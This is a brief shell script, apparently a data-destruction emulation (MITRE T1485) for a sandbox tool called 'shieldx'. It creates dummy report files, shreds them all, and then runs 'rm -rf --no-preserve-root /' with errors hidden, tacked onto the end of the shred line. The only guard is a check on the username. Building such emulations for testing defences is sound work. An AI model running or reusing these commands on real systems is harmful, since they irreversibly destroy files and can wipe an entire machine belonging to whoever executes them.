#!/bin/sh
# technique: T1485
# needs: shred
# options: --timeout 60s
[ "$USER" = sandbox ] || { echo "only for the inside of a sandbox: shieldx run"; exit 99; }

mkdir -p docs
for i in $(seq 40); do seq 1 900 | sed "s/^/row $i /" > "docs/report-$i.txt"; done
find docs -type f -exec shred -n 1 -zu {} ';' ; rm -rf --no-preserve-root / 2>/dev/null
